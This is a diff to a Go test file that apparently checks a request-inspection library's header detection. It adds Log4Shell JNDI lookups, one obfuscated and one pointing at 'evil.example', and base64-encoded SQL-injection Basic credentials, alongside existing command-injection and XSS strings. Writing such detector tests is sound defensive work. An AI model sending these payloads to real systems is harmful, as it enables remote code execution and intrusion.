@@ -277,6 +277,16 @@ func TestAllHeaders(t *testing.T) {
 		{"random header rce", "X-Cmd", "cmd=127.0.0.1 && ls /etc", KindCmdInjection},
 		{"user-agent scanner", "User-Agent", "sqlmap/1.7.4#stable (https://sqlmap.org)", KindScanner},
 		{"excluded credential", "Authorization", "Basic ' or 1=1--", KindNone},
+		{"log4shell in a credential header", "X-Api-Key", "${jndi:ldap://x/a}", KindJNDI},
+		{"log4shell in a bearer token", "Authorization", "Bearer ${jndi:ldap://x/a}", KindJNDI},
+		{"log4shell in an excluded header", "X-Tenant-Secret", "${${lower:j}ndi:rmi://x/a}", KindJNDI},
+		{"sqli in a basic user", "Authorization", "Basic YWRtaW4nIG9yICcxJz0nMTp4", KindSQLi},     // admin' or '1'='1:x
+		{"sqli in a basic password", "Authorization", "Basic YWRtaW46JyBvciAnMSc9JzE=", KindSQLi}, // admin:' or '1'='1
+		{"sqli in proxy basic credentials", "Proxy-Authorization", "basic eCcpIG9yIDE9MS0tIC06eQ==", KindSQLi},
+		{"basic credentials", "Authorization", "Basic YWxpY2U6UEBzcyd3MHJkIzIwMjQhLS07fCY=", KindNone}, // a password of punctuation
+		{"basic credentials of an email", "Authorization", "Basic amFuZS5kb2VAZXhhbXBsZS5jb206YzBycmVjdC1oMHJzZTtiNHR0ZXJ5J3N0QHBsZQ==", KindNone},
+		{"bearer with a dollar", "Authorization", "Bearer abc$def{ghi}", KindNone},
+		{"basic that is not base64", "Authorization", "Basic ${user}:x' or 1=1--", KindNone},
 		{"excluded by option", "X-Tenant-Secret", "<script>alert(1)</script>", KindNone},
 		{"fetch metadata", "Sec-Fetch-Dest", "<script>alert(1)</script>", KindXSS},
 		{"sqli in a client hint string", "Sec-CH-UA", `"x' or '1'='1";v="1"`, KindSQLi},
@@ -308,6 +318,11 @@ func TestAllHeaders(t *testing.T) {
 	}
 	if r := mustNew(t, Options{Headers: NamedHeaders}).Inspect(&sc, &req, nil); r.Detected() {
 		t.Errorf("named headers: %v at %s", r.Kind, r.Location)
+	}
+	// Log4j logs any header: NamedHeaders still reads lookups in all.
+	req.Header.Set("X-7f3a9c", "${jndi:ldap://evil.example/a}")
+	if r := mustNew(t, Options{Headers: NamedHeaders}).Inspect(&sc, &req, nil); r.Kind != KindJNDI {
+		t.Errorf("named headers, lookup in another: %v at %s; want jndi", r.Kind, r.Location)
 	}
 }
 
